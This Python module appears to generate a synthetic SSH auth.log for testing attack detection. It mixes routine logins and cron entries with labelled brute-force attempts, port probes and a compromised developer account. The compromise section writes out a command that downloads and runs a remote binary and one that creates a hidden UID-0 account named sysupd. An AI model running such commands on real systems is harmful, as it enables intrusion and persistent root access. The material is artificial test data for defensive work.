"""auth.log of one server with SSH open to the internet, of 2015, in the manner of public logs of such servers.

Daily work: cron, deployments, developers with keys and with passwords they mistype, monitoring. Attacks: guessed passwords, fast and from
everywhere, probes of the port, and in the end a developer's own password in strange hands, whose lines look like any login. It is not
training material: it was written by a hand that did not know the training scenarios, to see what the model makes of a site that nobody
tuned it for, and what is learned from can no longer tell that.
"""
from __future__ import annotations

import hashlib
from typing import Optional

from .site import Renumber, Site, epoch, syslog_time

START = epoch(2015, 11, 30)
DAYS = 8
HOST = "ip-172-31-27-153"
ADDRESSES = {"ubuntu": ["73.162.33.18", "12.148.96.4"], "deploy": ["54.172.8.91"], "marta": ["84.114.20.7", "77.119.131.60"],
             "craig": ["24.4.116.201", "166.170.44.5"], "git": ["84.114.20.7", "24.4.116.201", "54.172.8.91"], "nagios": ["52.5.71.16"]}
GUESSED_NAMES = ("admin root test guest ubnt support user oracle postgres pi ftpuser nagios1 git1 mysql tomcat hadoop zabbix www "
                 "webmaster info D-Link PlcmSpIp vyatta 1234 operator service cisco ts3 minecraft teamspeak jenkins vnc backup2 "
                 "ftp weblogic default anonymous xbmc osmc student dev demo redis elastic ansible vagrant odoo steam bin daemon "
                 "nobody mother log administrator").split()


class SshInternet(Site):
    """auth.log of a server that the internet sees."""

    name = "ssh_internet"
    host = "ip-172-31-27-153"
    sourcetype = "linux_secure"
    seed = 606
    renumbered = (Renumber(pattern=r"(^\S+ +\d+ \S+ \S+ [^\s\[]+\[)(\d+)(\]:)", start=8000, step=5, fixed=("780", "1102"), wrap=32700),
                  Renumber(pattern=r"([Ss]ession )(\d+)( of user|\.)", start=30, step=2))

    def build(self) -> None:
        self.prepare()
        self.cron()
        self.people()
        self.probes()
        self.guessed_passwords()
        self.port_probes()
        self.stolen_password()

    def next_pid(self):
        self.pid += self.rng.randint(1, 9)
        if self.pid > 32000:
            self.pid = 1000
        return self.pid

    def line(self, at: float, program: str, message: str, process=None, label: int = 0, group: Optional[str] = None,
             technique: Optional[str] = None) -> None:
        """One line of auth.log."""
        self.add(at, "{} {} {}: {}".format(syslog_time(at), HOST, program if process is None else f"{program}[{process}]", message),
                 label, group, technique)

    def guess(self, at: float, user: str, address: str, tells_password: bool = True, group: str = "ssh_bruteforce") -> None:
        """What one guessed password leaves behind."""
        process = self.next_pid()
        port = self.rng.randint(1024, 65000)
        exists = user in ("root", "ubuntu", "git", "backup", "bin", "daemon", "nobody", "mysql")
        messages = []
        if not exists:
            messages += [f"Invalid user {user} from {address}", f"input_userauth_request: invalid user {user} [preauth]"]
        dice = self.rng.random()
        if tells_password and dice < 0.55:
            messages += ["pam_unix(sshd:auth): check pass; user unknown"] if not exists and self.rng.random() < 0.4 else []
            messages += [f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={address}"
                         f"{'  user=' + user if exists else ' '}"]
            messages += [f"Failed password for {'' if exists else 'invalid user '}{user} from {address} port {port} ssh2"]
        messages += [self.choice([f"Received disconnect from {address}: 11: Bye Bye [preauth]",
                                  f"Connection closed by {address} [preauth]", f"Received disconnect from {address}: 11:  [preauth]",
                                  f"Received disconnect from {address}: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]",
                                  f"Disconnecting: Too many authentication failures for {user} [preauth]"])]
        for message_text in messages:
            self.line(at, "sshd", message_text, process, 1, group, "T1110.001")
            at += self.rng.random() * 0.8

    def prepare(self) -> None:
        """Who and what is there."""
        self.pid = 8000

    def cron(self) -> None:
        """Cron."""
        for hour in range(DAYS * 24):
            process = self.next_pid()
            at = START + hour * 3600 + 17 * 60 + 1
            self.line(at, "CRON", "pam_unix(cron:session): session opened for user root by (uid=0)", process)
            self.line(at + 0.3, "CRON", "pam_unix(cron:session): session closed for user root", process)
            if hour % 2:
                process = self.next_pid()
                at += 23 * 60
                job_owner = self.choice(["www-data", "root", "deploy"])
                self.line(at, "CRON", f"pam_unix(cron:session): session opened for user {job_owner} by (uid=0)", process)
                self.line(at + 2, "CRON", f"pam_unix(cron:session): session closed for user {job_owner}", process)

    def people(self) -> None:
        """Deployments, developers and monitoring log in."""
        session = 0
        for _ in range(140):
            at = self.moment(START, DAYS)
            user = self.weighted([("ubuntu", 4), ("deploy", 5), ("marta", 3), ("craig", 3), ("git", 6), ("nagios", 5)])
            address = self.choice(ADDRESSES[user])
            process = self.next_pid()
            port = self.rng.randint(32800, 65000)
            session += 1
            if user in ("marta", "craig") and self.rng.random() < 0.35:
                for _ in range(self.rng.randint(1, 3)):
                    self.line(at, "sshd", f"Failed password for {user} from {address} port {port} ssh2", process)
                    at += 4
            if user in ("marta", "craig") and self.rng.random() < 0.15:
                self.line(at, "sshd", f"Invalid user {self.choice(['Marta', 'crag', 'root@', 'craig '])} from {address}",
                          self.next_pid())
                at += 5
            if self.rng.random() < 0.05:
                self.line(at, "sshd", f"Connection closed by {address} [preauth]", self.next_pid())
            self.line(at, "sshd", f"Accepted publickey for {user} from {address} port {port} ssh2"
                      + f": RSA {':'.join(hashlib.md5(user.encode(), usedforsecurity=False).hexdigest()[i:i + 2] for i in range(0, 32, 2))}" if user not in ("marta",
                "craig") else f"Accepted password for {user} from {address} port {port} ssh2", process)
            self.line(at, "sshd", f"pam_unix(sshd:session): session opened for user {user} by (uid=0)", process)
            self.line(at + 0.1, "systemd-logind", f"New session {session} of user {user}.", 780)
            if user in ("ubuntu", "craig"):
                for command in self.rng.sample(["/usr/bin/apt-get update", "/usr/bin/apt-get install ntp",
                                                "/usr/sbin/service nginx reload", "/usr/bin/tail -500 /var/log/nginx/error.log",
                                                "/bin/cat /var/log/auth.log", "/usr/bin/fail2ban-client status sshd",
                                                "/sbin/iptables -L -n", "/usr/bin/vi /etc/hosts.deny", "/usr/bin/docker restart app",
                                                "/usr/sbin/tcpdump -ni eth0 port 443", "/bin/rm -rf /var/cache/nginx/tmp",
                                                "/usr/sbin/useradd -m lena", "/usr/bin/passwd lena"], self.rng.randint(0, 3)):
                    at += 40
                    self.line(at, "sudo", f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
                    self.line(at, "sudo", f"pam_unix(sudo:session): session opened for user root by {user}(uid=0)")
                    self.line(at + 3, "sudo", "pam_unix(sudo:session): session closed for user root")
                    if "useradd" in command:
                        self.line(at + 1, "useradd", "new user: name=lena, UID=1007, GID=1007, home=/home/lena, shell=/bin/sh",
                                  self.next_pid())
            at += self.rng.uniform(1, 2000)
            self.line(at, "sshd", f"Received disconnect from {address}: 11: disconnected by user", process)
            self.line(at, "sshd", f"pam_unix(sshd:session): session closed for user {user}", process)
            self.line(at + 0.1, "systemd-logind", f"Removed session {session}.", 780)

    def probes(self) -> None:
        """Monitoring knocks; the daemon restarts."""
        for _ in range(90):
            at = self.moment(START, DAYS, [1] * 24)
            self.line(at, "sshd", self.choice(["Connection closed by 52.5.71.16 [preauth]",
                                               "Did not receive identification string from 52.5.71.16"]), self.next_pid())
        for _ in range(6):
            at = self.moment(START, DAYS, [1] * 24)
            self.line(at, "sshd", self.choice(["Received SIGHUP; restarting.", "Server listening on 0.0.0.0 port 22.",
                                               "Server listening on :: port 22."]), 1102)

    def guessed_passwords(self) -> None:
        """Passwords are guessed, fast and from everywhere."""
        for address, count, gap in [("222.186.21.207", 16, 3), ("43.229.53.49", 14, 4), ("59.63.192.199", 14, 30),
                                    ("188.87.35.25", 8, 2), ("61.197.203.243", 10, 8)]:
            at = self.moment(START, DAYS - 1, [1] * 24)
            for _ in range(count):
                at += self.rng.expovariate(1 / gap)
                self.guess(at, "root" if self.rng.random() < 0.6 else self.choice(GUESSED_NAMES), address)
        for _ in range(26):
            self.guess(self.moment(START, DAYS, [1] * 24), self.choice(GUESSED_NAMES), self.address(), group="ssh_distributed")

    def port_probes(self) -> None:
        """Whoever only looks at the port."""
        for _ in range(22):
            at = self.moment(START, DAYS, [1] * 24)
            address = self.address()
            name = self.choice(["%s.broad.sz.gd.dynamic.163data.com.cn", "host-%s.static.telecom.net.ar",
                                         "%s.hinet-ip.hinet.net", "ns%s.ovh.net"]) % address.replace(".", "-")
            self.line(at, "sshd", self.choice([
                                               f"reverse mapping checking getaddrinfo for {name} [{address}] failed - POSSIBLE BREAK-IN ATTEMPT!",
                                               f"Did not receive identification string from {address}",
                                               f"Bad protocol version identification 'GET / HTTP/1.1' from {address} port {self.rng.randint(1024, 65000)}",
                                               f"fatal: Unable to negotiate with {address} port {self.rng.randint(1024, 65000)}"
                                               ": no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]",
                                               f"Bad protocol version identification '\\003' from {address} port {self.rng.randint(1024, 65000)}"]),
                      self.next_pid(), 1, "ssh_probe", "T1595.001")

    def stolen_password(self) -> None:
        """A developer's own password, in strange hands."""
        at = START + 6 * 86400 + 3 * 3600
        address = "89.248.171.140"
        for i in range(3):
            at += self.rng.uniform(800, 9000)
            process = self.next_pid()
            self.line(at, "sshd",
                      f"Accepted password for marta from {address if i else '89.248.168.12'} port {self.rng.randint(33000, 60000)}"
                      " ssh2", process, 1, "valid_account", "T1078")
            self.line(at, "sshd", "pam_unix(sshd:session): session opened for user marta by (uid=0)", process, 1, "valid_account",
                      "T1078")
            for command in [["/bin/su", "/usr/bin/id"], ["/usr/bin/passwd root", "/usr/sbin/useradd -o -u 0 -g 0 -d /root sysupd"],
                            ["/bin/bash -c cd /tmp;wget http://89.248.171.140/x86;chmod 777 x86;./x86"]][i]:
                at += 30
                self.line(at, "sudo", f"   marta : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND={command}", None, 1, "valid_account",
                          "T1548.003")
                self.line(at, "sudo", "pam_unix(sudo:session): session opened for user root by marta(uid=0)", None, 1, "valid_account",
                          "T1548.003")
        self.line(at + 4, "useradd", "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash", self.next_pid(), 1,
                  "valid_account", "T1136.001")
